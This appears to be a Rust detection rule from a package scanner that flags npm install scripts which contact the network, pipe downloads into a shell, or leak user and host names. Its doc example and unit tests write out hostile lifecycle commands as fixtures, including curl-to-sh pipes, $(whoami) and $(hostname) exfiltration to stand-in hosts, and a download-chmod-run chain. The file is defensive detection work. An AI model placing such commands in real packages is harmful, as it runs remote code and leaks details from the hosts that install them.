//! `code/install-script-network`.

use super::{chain, finding, per_signal};
use crate::CodeFinding;
use crate::signal::{Kind, PackageFacts};
use crate::verdict::Locality;
use diligence_finding::Severity;

diligence_finding::declare_rule! {
    /// A lifecycle script contacts the network from the shell, pipes a download into a shell, or sends host details.
    ///
    /// ## What it detects
    /// `curl`/`wget`/`nslookup`/`Invoke-WebRequest` in a `preinstall`/`install`/`postinstall` command line, in a
    /// `binding.gyp` command expansion (node-gyp runs it at install) or in a shell, batch or PowerShell file that
    /// install-time code starts; critical when the download is piped into `sh`/`bash`/`iex` or when `$(whoami)`,
    /// `$(hostname)`, `$(pwd)` or `%USERNAME%` are substituted into it. In `prepare` (run only for git and local
    /// installs, never for a registry install) the finding is medium.
    ///
    /// ## Why it matters
    /// Dependency-confusion probes (Birsan, 2021) exfiltrate user, host and path through DNS or HTTP from a one-line
    /// preinstall; `curl | sh` installs whatever the server sends.
    ///
    /// ## Example
    /// `\"preinstall\": \"curl https://$(whoami).x.oastify.com\"`
    ///
    /// ## Known false positives
    /// Installers that fetch a pinned, checksum-verified file with curl; these are reported as high (suspicious) and
    /// not as malicious unless they pipe into a shell or send host details.
    pub static INSTALL_SCRIPT_NETWORK = { id: "code/install-script-network", severity: Severity::High };
}

/// One finding per networked lifecycle command.
pub(crate) fn check(p: &PackageFacts) -> Vec<CodeFinding> {
    per_signal(p, Kind::ShellNetwork, |f, s| {
        if !crate::scripts::in_command(f, s.line) {
            return None;
        }
        let install = crate::scripts::at_install(f, s.line);
        let git_only =
            crate::scripts::is_manifest(&f.path) && crate::scripts::git_only_line(f, s.line);
        if !install && !git_only {
            return None;
        }
        let lower = s.detail.to_ascii_lowercase();
        let runs_download = [
            "chmod +x",
            "chmod 755",
            "chmod 777",
            "&& ./",
            "; ./",
            "&& sh ",
            "&& bash ",
            "start /b",
        ]
        .iter()
        .any(|p| lower.contains(p));
        let piped = runs_download || f.of(Kind::ShellPipeExec).any(|x| x.line == s.line);
        let host = f.of(Kind::ShellHostInfo).any(|x| x.line == s.line);
        let sev = if !install {
            Severity::Medium
        } else if piped || host {
            Severity::Critical
        } else {
            INSTALL_SCRIPT_NETWORK.default_severity
        };
        let what = match (piped, host) {
            (true, _) => "downloads and runs what it fetched",
            (_, true) => "sends user/host details over the network",
            _ => "contacts the network",
        };
        let place = match (f.path.as_str(), git_only) {
            (_, true) => "`prepare` script (git and local installs only)",
            ("package.json", _) => "lifecycle script",
            (path, _) if crate::scripts::is_manifest(path) => {
                "bundled dependency's lifecycle script"
            }
            _ if f.kind == crate::classify::FileKind::Script => "install-time script file",
            _ => "binding.gyp command expansion",
        };
        let msg = format!("{place} {what}");
        Some(finding(
            &INSTALL_SCRIPT_NETWORK,
            sev,
            f,
            s,
            Locality::Function,
            msg,
            chain(
                p,
                f,
                s,
                &[Kind::ShellPipeExec, Kind::ShellHostInfo, Kind::Endpoint],
            ),
        ))
    })
}

#[cfg(test)]
mod tests {
    use crate::rules::test_util::{hits, scan};

    #[test]
    fn positive() {
        let s = scan(&[(
            "package.json",
            "{\n  \"name\": \"t\",\n  \"scripts\": {\n    \"preinstall\": \"curl -s https://$(whoami).x.example.com/ >/dev/null\"\n  }\n}\n",
        )]);
        assert_eq!(
            hits(&s, "code/install-script-network"),
            vec![("package.json".to_string(), 4)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    /// npm installs a tarball's `node_modules` folders (`bundleDependencies`) and runs their
    /// lifecycle scripts: a bundled dependency's `postinstall` is install time, and the
    /// files it starts are install-time entry points.
    #[test]
    fn bundled_dependency_lifecycle_script() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"host\",\"version\":\"1.0.0\",\"bundleDependencies\":[\"inner\"]}",
            ),
            ("index.js", "module.exports = 1;\n"),
            (
                "node_modules/inner/package.json",
                "{\"name\":\"inner\",\"scripts\":{\"postinstall\":\"curl -s https://x.example.com/p | sh\"}}",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/install-script-network"),
            vec![("node_modules/inner/package.json".to_string(), 1)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
        let s = scan(&[
            ("package.json", "{\"name\":\"host\"}"),
            (
                "node_modules/@s/inner/package.json",
                "{\"name\":\"@s/inner\",\"scripts\":{\"install\":\"sh ./setup.sh\"}}",
            ),
            (
                "node_modules/@s/inner/setup.sh",
                "#!/bin/sh\ncurl -s https://x.example.com/$(hostname)\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/install-script-network"),
            vec![("node_modules/@s/inner/setup.sh".to_string(), 2)]
        );
    }

    /// A bundled dependency's `prepare` never runs for the parent's install (judged as the
    /// package's own `prepare`: medium), and a `package.json` outside `node_modules` (a
    /// fixture) runs nothing.
    #[test]
    fn negative_bundled_prepare_and_fixture_manifests() {
        let s = scan(&[
            ("package.json", "{\"name\":\"host\"}"),
            (
                "node_modules/inner/package.json",
                "{\"name\":\"inner\",\"scripts\":{\"prepare\":\"curl -s https://x.example.com/p | sh\"}}",
            ),
            (
                "test/fixtures/app/package.json",
                "{\"name\":\"app\",\"scripts\":{\"postinstall\":\"curl -s https://x.example.com/p | sh\"}}",
            ),
        ]);
        // As for the package's own `prepare`: medium, never malicious.
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/install-script-network"),
            Some(diligence_finding::Severity::Medium)
        );
        assert_eq!(
            hits(&s, "code/install-script-network"),
            vec![("node_modules/inner/package.json".to_string(), 1)]
        );
        assert_eq!(s.verdict, crate::Verdict::Clean, "{:?}", s.findings);
    }

    #[test]
    fn negative_node_gyp() {
        let s = scan(&[(
            "package.json",
            "{\"name\":\"t\",\"scripts\":{\"install\":\"node-gyp rebuild\"}}",
        )]);
        assert!(hits(&s, "code/install-script-network").is_empty());
    }

    #[test]
    fn download_chmod_run_is_critical() {
        let s = scan(&[(
            "package.json",
            "{\"name\":\"t\",\"scripts\":{\"postinstall\":\"curl -so x https://d.example.net/x && chmod +x x && ./x\"}}",
        )]);
        assert_eq!(
            hits(&s, "code/install-script-network"),
            vec![("package.json".to_string(), 1)]
        );
        assert_eq!(s.verdict, crate::Verdict::Malicious);
    }

    #[test]
    fn prepare_is_not_install_time() {
        let s = scan(&[(
            "package.json",
            "{\"name\":\"t\",\"scripts\":{\"prepare\":\"curl -s https://x.example.com/a | sh\"}}",
        )]);
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/install-script-network"),
            Some(diligence_finding::Severity::Medium)
        );
        assert_eq!(s.verdict, crate::Verdict::Clean);
    }

    #[test]
    fn script_file_started_at_install() {
        let s = scan(&[
            (
                "package.json",
                "{\"name\":\"t\",\"scripts\":{\"postinstall\":\"sh ./setup.sh\"}}",
            ),
            (
                "setup.sh",
                "#!/bin/sh\necho hi\ncurl -s https://x.example.com/$(hostname)\n",
            ),
            (
                "tools/unused.sh",
                "#!/bin/sh\ncurl -s https://x.example.com/$(hostname)\n",
            ),
        ]);
        assert_eq!(
            hits(&s, "code/install-script-network"),
            vec![("setup.sh".to_string(), 3)]
        );
        assert_eq!(
            crate::rules::test_util::severity(&s, "code/install-script-network"),
            Some(diligence_finding::Severity::Critical)
        );
    }
}
